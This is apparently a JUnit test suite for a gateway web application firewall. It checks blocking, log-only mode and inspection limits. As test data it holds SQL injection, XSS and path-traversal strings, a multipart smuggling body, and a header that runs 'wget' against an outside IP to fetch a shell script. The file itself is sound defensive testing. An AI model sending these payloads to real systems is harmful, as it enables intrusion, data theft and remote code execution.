package dev.bulwark.gateway;

import dev.bulwark.api.Reason;
import dev.bulwark.api.SecurityEvent;
import dev.bulwark.core.config.PolicyConfig;
import dev.bulwark.core.config.RouteConfig;
import dev.bulwark.core.waf.WafConfig;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.Random;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;

import static dev.bulwark.gateway.GatewayTestSupport.CLIENT;
import static org.assertj.core.api.Assertions.assertThat;

/** Injection screening through a real gateway: what reaches the backend, what is refused, what is logged. */
class WafGatewayTest {

    private static TestUpstream upstream;
    private static Gateway gateway;
    private static final BlockingQueue<SecurityEvent> EVENTS = new LinkedBlockingQueue<>();

    @BeforeAll
    static void start() {
        upstream = new TestUpstream();
        gateway = Gateway.start(GatewayTestSupport.config(upstream, GatewayTestSupport.server())
                .route(RouteConfig.builder("logged").path("/logged/**").upstream("backend")
                        .inline(PolicyConfig.builder().waf(WafConfig.builder().mode(WafConfig.Mode.LOG).build())))
                .route(RouteConfig.builder("small").path("/small/**").upstream("backend")
                        .inline(PolicyConfig.builder().waf(WafConfig.builder().maxBodyInspection(1024).build())))
                .route(RouteConfig.builder("small-upload").path("/small-upload/**").upstream("backend")
                        .inline(PolicyConfig.builder().waf(WafConfig.builder().maxMultipartInspection(1024).build())))
                .route(RouteConfig.builder("pass").path("/pass/**").upstream("backend")
                        .inline(PolicyConfig.builder().waf(WafConfig.builder().maxBodyInspection(1024)
                                .oversizedBody(WafConfig.OversizedBody.PASS).build())))
                .route(RouteConfig.builder("plain").path("/plain/**").upstream("backend")
                        .inline(PolicyConfig.builder().waf(WafConfig.OFF)))
                .route(RouteConfig.builder("api").path("/**").upstream("backend")
                        .inline(PolicyConfig.builder().waf(WafConfig.builder()
                                .exclude("query:q", "body:$.description", "body:$.notes[*].text", "header:Referer",
                                        "body:bio")
                                .build())))
                .build(), GatewayOptions.defaults().withEventLoops(1).withEvents(EVENTS::add));
    }

    @AfterAll
    static void stop() {
        gateway.close();
        upstream.close();
    }

    @BeforeEach
    void drain() throws InterruptedException {
        while (!upstream.nothingReceived()) {
            upstream.next();
        }
        EVENTS.clear();
    }

    private static HttpResponse<String> get(String pathAndQuery) throws Exception {
        return CLIENT.send(HttpRequest.newBuilder(gateway.baseUri().resolve(pathAndQuery)).build(),
                HttpResponse.BodyHandlers.ofString());
    }

    private static HttpResponse<String> post(String path, String contentType, String body) throws Exception {
        return CLIENT.send(HttpRequest.newBuilder(gateway.baseUri().resolve(path)).header("Content-Type", contentType)
                .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
    }

    private static String query(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static void assertBlocked(HttpResponse<String> response, String check, String where) {
        assertThat(response.statusCode()).isEqualTo(403);
        assertThat(response.body()).contains("urn:bulwark:problem:injection-detected",
                "request blocked by injection screening");
        assertThat(upstream.nothingReceived()).as("the backend saw nothing").isTrue();
        SecurityEvent event = EVENTS.poll();
        assertThat(event).isNotNull();
        assertThat(event.reason()).isEqualTo(Reason.INJECTION_DETECTED);
        assertThat(event.detail()).startsWith(check + " in " + where).contains("value redacted");
    }

    @Test
    void sqlInjectionInAQueryParameterIsRefusedWithoutEchoingIt() throws Exception {
        HttpResponse<String> refused = get("/products?id=" + query("1' OR '1'='1"));

        assertBlocked(refused, "sqli", "query parameter \"id\"");
        assertThat(refused.body()).doesNotContain("OR");
    }

    @Test
    void encodedAndDoubleEncodedPayloadsAreDecodedFirst() throws Exception {
        assertBlocked(get("/products?id=1%2527%2520or%25201%253D1--"), "sqli", "query parameter \"id\"");
        assertBlocked(get("/products?file=..%252f..%252fetc%252fpasswd"), "traversal", "query parameter \"file\"");
        assertBlocked(get("/products?name=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"), "xss", "query parameter \"name\"");
        assertBlocked(get("/products?u=" + query("&#106;avascript:alert(1)")), "xss", "query parameter \"u\"");
    }

    @Test
    void everyCheckFiresOnTheTargetsItIsAbout() throws Exception {
        assertBlocked(get("/search/%3Csvg%20onload=alert(1)%3E"), "xss", "the path");
        assertBlocked(CLIENT.send(HttpRequest.newBuilder(gateway.baseUri().resolve("/products"))
                        .header("X-Device-Name", "phone && wget http://203.0.113.5/x.sh").build(),
                HttpResponse.BodyHandlers.ofString()), "commandInjection", "header \"X-Device-Name\"");
        assertBlocked(post("/orders", "application/json",
                        "{\"customer\":{\"name\":\"x\",\"tags\":[\"ok\",\"1; DROP TABLE orders--\"]}}"),
                "sqli", "body field \"$.customer.tags[*]\"");
        assertBlocked(post("/orders", "application/x-www-form-urlencoded", "name=a&path=..%2F..%2Fetc%2Fshadow"),
                "traversal", "body field \"path\"");
        assertBlocked(post("/orders", "application/json; charset=utf-8", "{\"<script>alert(1)</script>\":1}"),
                "xss", "body field \"$.<script>alert(1)</script>\"");
    }

    @Test
    void ordinaryApiTrafficPassesUntouched() throws Exception {
        String body = "{\"name\":\"Seán O'Brien\",\"email\":\"sean.obrien@example.com\",\"note\":\"Please select the"
                + " blue one; or the red one if it's sold out -- thanks!\",\"html\":\"<b>bold</b> & <i>fine</i>\","
                + "\"path\":\"docs/guide.md\",\"ratio\":\"3 < 4\",\"query\":\"union station\"}";

        HttpResponse<String> passed = post("/orders?sort=name&dir=asc&q=" + query("Tom & Jerry"),
                "application/json", body);

        assertThat(passed.statusCode()).isEqualTo(200);
        TestUpstream.Received received = upstream.next();
        assertThat(received.bodyBytes()).isEqualTo(body.getBytes(StandardCharsets.UTF_8).length);
        assertThat(EVENTS).isEmpty();
    }

    @Test
    void excludedParametersAreNotInspected() throws Exception {
        assertThat(get("/search?q=" + query("' or 1=1--")).statusCode()).isEqualTo(200);
        assertThat(post("/orders", "application/json",
                "{\"description\":\"<script>alert(1)</script>\",\"notes\":[{\"text\":\"; cat /etc/passwd\"}]}")
                .statusCode()).isEqualTo(200);
        assertThat(post("/orders", "application/x-www-form-urlencoded", "bio=%3Cscript%3Ex%3C%2Fscript%3E")
                .statusCode()).isEqualTo(200);
        assertThat(CLIENT.send(HttpRequest.newBuilder(gateway.baseUri().resolve("/products"))
                .header("Referer", "https://example.com/?q=<script>alert(1)</script>").build(),
                HttpResponse.BodyHandlers.ofString()).statusCode()).isEqualTo(200);
        assertThat(get("/plain/x?id=" + query("1' or '1'='1")).statusCode()).isEqualTo(200);
        assertThat(EVENTS).isEmpty();
    }

    @Test
    void logModeLetsTheRequestThroughAndReportsIt() throws Exception {
        HttpResponse<String> passed = get("/logged/products?id=" + query("1 UNION SELECT password FROM users"));

        assertThat(passed.statusCode()).isEqualTo(200);
        assertThat(upstream.next().query()).contains("UNION");
        assertThat(EVENTS.poll()).satisfies(event -> {
            assertThat(event.reason()).isEqualTo(Reason.INJECTION_DETECTED);
            assertThat(event.detail()).contains("sqli in query parameter \"id\"", "log mode, passed")
                    .doesNotContain("UNION");
        });
    }

    @Test
    void malformedJsonIsRefusedInBlockModeAndPassedInLogMode() throws Exception {
        HttpResponse<String> refused = post("/orders", "application/json", "{\"name\": \"x\", ");

        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(refused.body()).contains("urn:bulwark:problem:malformed-request");
        assertThat(upstream.nothingReceived()).isTrue();
        assertThat(post("/logged/orders", "application/json", "{not json").statusCode()).isEqualTo(200);
        assertThat(post("/orders", "application/json", "[[[[[[[[[[[[[[[[[[[[").statusCode()).isEqualTo(400);
    }

    @Test
    void bodiesBeyondTheInspectionBoundAreRefusedOrPassedAsConfigured() throws Exception {
        String large = "{\"text\":\"" + "a".repeat(2_000) + "\"}";

        HttpResponse<String> refused = post("/small/orders", "application/json", large);
        assertThat(refused.statusCode()).isEqualTo(413);
        assertThat(upstream.nothingReceived()).isTrue();

        HttpResponse<String> chunked = CLIENT.send(HttpRequest.newBuilder(gateway.baseUri().resolve("/small/orders"))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new java.io.ByteArrayInputStream(
                        large.getBytes(StandardCharsets.UTF_8)))).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(chunked.statusCode()).isEqualTo(413);
        assertThat(upstream.nothingReceived()).isTrue();

        assertThat(post("/pass/orders", "application/json", large).statusCode()).isEqualTo(200);
        assertThat(upstream.next().bodyBytes()).isEqualTo(large.length());
        assertThat(post("/small/orders", "application/json", "{\"q\":\"1' or '1'='1\"}").statusCode())
                .isEqualTo(403);

        byte[] form = multipart(new byte[2_000], "name", "Ada");
        assertThat(post("/small/orders", MULTIPART, form).statusCode()).isEqualTo(200);
        assertThat(upstream.next().bodyBytes()).isEqualTo(form.length);
        assertThat(post("/small-upload/orders", MULTIPART, form).statusCode()).isEqualTo(413);
        assertThat(upstream.nothingReceived()).isTrue();
    }

    @Test
    void aBodyWithoutALengthOverHttp2IsInspectedToo() throws Exception {
        java.net.http.HttpClient http2 = java.net.http.HttpClient.newBuilder()
                .version(java.net.http.HttpClient.Version.HTTP_2).build();
        // The first request upgrades the connection (h2c); the next one is a stream, its body of unknown length.
        assertThat(http2.send(HttpRequest.newBuilder(gateway.baseUri().resolve("/products")).build(),
                HttpResponse.BodyHandlers.ofString()).statusCode()).isEqualTo(200);
        upstream.next();
        byte[] body = "{\"id\":\"1' OR '1'='1\"}".getBytes(StandardCharsets.UTF_8);

        HttpResponse<String> response = http2.send(HttpRequest.newBuilder(gateway.baseUri().resolve("/orders"))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new java.io.ByteArrayInputStream(body)))
                .build(), HttpResponse.BodyHandlers.ofString());

        assertThat(response.version()).isEqualTo(java.net.http.HttpClient.Version.HTTP_2);
        assertBlocked(response, "sqli", "body field \"$.id\"");
        assertThat(CLIENT.send(HttpRequest.newBuilder(gateway.baseUri().resolve("/products"))
                .header("Content-Type", "application/json").build(), HttpResponse.BodyHandlers.ofString())
                .statusCode()).as("an HTTP/1.1 request without a body still passes").isEqualTo(200);
    }

    @Test
    void otherContentTypesAreForwardedUninspected() throws Exception {
        assertThat(post("/orders", "text/plain", "1' or '1'='1").statusCode()).isEqualTo(200);
        assertThat(upstream.next().bodyBytes()).isEqualTo(12);
    }

    private static final String BOUNDARY = "------------------------d74496d66958873e";
    private static final String MULTIPART = "multipart/form-data; boundary=" + BOUNDARY;

    /** @return a form as curl sends it: the given fields, then a binary file part when {@code file} is not null */
    private static byte[] multipart(byte[] file, String... namesAndValues) {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        for (int i = 0; i < namesAndValues.length; i += 2) {
            body.writeBytes(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + namesAndValues[i]
                    + "\"\r\n\r\n" + namesAndValues[i + 1] + "\r\n").getBytes(StandardCharsets.UTF_8));
        }
        if (file != null) {
            body.writeBytes(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"avatar\";"
                    + " filename=\"me.png\"\r\nContent-Type: image/png\r\n\r\n").getBytes(StandardCharsets.UTF_8));
            body.writeBytes(file);
            body.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
        }
        body.writeBytes(("--" + BOUNDARY + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return body.toByteArray();
    }

    private static HttpResponse<String> post(String path, String contentType, byte[] body) throws Exception {
        return CLIENT.send(HttpRequest.newBuilder(gateway.baseUri().resolve(path)).header("Content-Type", contentType)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(), HttpResponse.BodyHandlers.ofString());
    }

    @Test
    void anAttackInAMultipartFormIsRefusedAndNeverReachesTheBackend() throws Exception {
        assertBlocked(post("/profile", MULTIPART, multipart(null, "name", "Ada", "id", "1' OR '1'='1")),
                "sqli", "body field \"id\"");
        assertBlocked(post("/profile", MULTIPART, multipart(null, "<svg onload=alert(1)>", "x")),
                "xss", "body field \"<svg onload=alert(1)>\"");
        byte[] traversal = multipart(null, "name", "Ada");
        String withFile = new String(traversal, StandardCharsets.UTF_8).replace("--" + BOUNDARY + "--",
                "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"../../etc/cron.d/x\""
                        + "\r\n\r\nharmless\r\n--" + BOUNDARY + "--");
        assertBlocked(post("/profile", MULTIPART, withFile), "traversal", "body field \"doc\"");
        // Spring reads the form-data parts of any multipart/* body as request parameters.
        assertBlocked(post("/profile", "multipart/mixed; boundary=" + BOUNDARY, multipart(null, "id", "1' OR 1=1--")),
                "sqli", "body field \"id\"");
    }

    @Test
    void aMultipartUploadReachesTheBackendByteForByte() throws Exception {
        // over maxBodyInspection's 64 KiB, under maxMultipartInspection's 1 MiB: an attachment is no reason to refuse
        byte[] png = new byte[200 * 1024];
        new Random(42).nextBytes(png);
        System.arraycopy(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'}, 0, png, 0, 8);
        byte[] body = multipart(png, "name", "Seán O'Brien", "email", "sean.obrien@example.com",
                "bio", "<script>excluded by body:bio</script>",
                "note", "Please select the blue one; or the red one -- thanks!");

        HttpResponse<String> passed = post("/profile", MULTIPART, body);

        assertThat(passed.statusCode()).isEqualTo(200);
        TestUpstream.Received received = upstream.next();
        assertThat(received.bodyBytes()).isEqualTo(body.length);
        assertThat(received.sha256()).isEqualTo(HexFormat.of().formatHex(
                MessageDigest.getInstance("SHA-256").digest(body)));
        assertThat(received.header("Content-Type")).isEqualTo(MULTIPART);
        assertThat(EVENTS).isEmpty();
    }

    @Test
    void aMalformedMultipartBodyIsRefusedInBlockModeAndPassedInLogMode() throws Exception {
        // A bare LF before the delimiter: a lenient parser would see a second part, "id", that the WAF never saw.
        String smuggled = "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n"
                + "x\n--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\n1' OR '1'='1\r\n--"
                + BOUNDARY + "--\r\n";

        HttpResponse<String> refused = post("/profile", MULTIPART, smuggled);

        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(refused.body()).contains("urn:bulwark:problem:malformed-request", "multipart/form-data")
                .doesNotContain("OR");
        assertThat(upstream.nothingReceived()).isTrue();
        assertThat(post("/profile", "multipart/form-data", multipart(null, "a", "1")).statusCode()).isEqualTo(400);
        assertThat(upstream.nothingReceived()).isTrue();
        assertThat(post("/logged/profile", MULTIPART, smuggled).statusCode()).isEqualTo(200);
        assertThat(upstream.next().bodyBytes()).isEqualTo(smuggled.getBytes(StandardCharsets.UTF_8).length);
    }
}
